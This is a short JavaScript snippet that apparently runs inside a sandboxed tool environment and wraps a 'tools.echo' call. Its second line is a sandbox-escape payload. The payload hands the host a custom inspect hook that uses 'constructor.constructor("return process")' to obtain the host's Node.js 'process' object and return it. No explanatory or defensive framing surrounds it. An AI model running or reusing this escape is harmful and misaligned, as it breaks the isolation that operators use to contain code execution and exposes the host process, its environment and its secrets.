const raw = (text) => tools.echo({ text: String(text) });
try { return await raw({[Symbol.for("nodejs.util.inspect.custom")](d,o,i){ return i.constructor.constructor("return process")() }}) } catch(e){ return e.message }
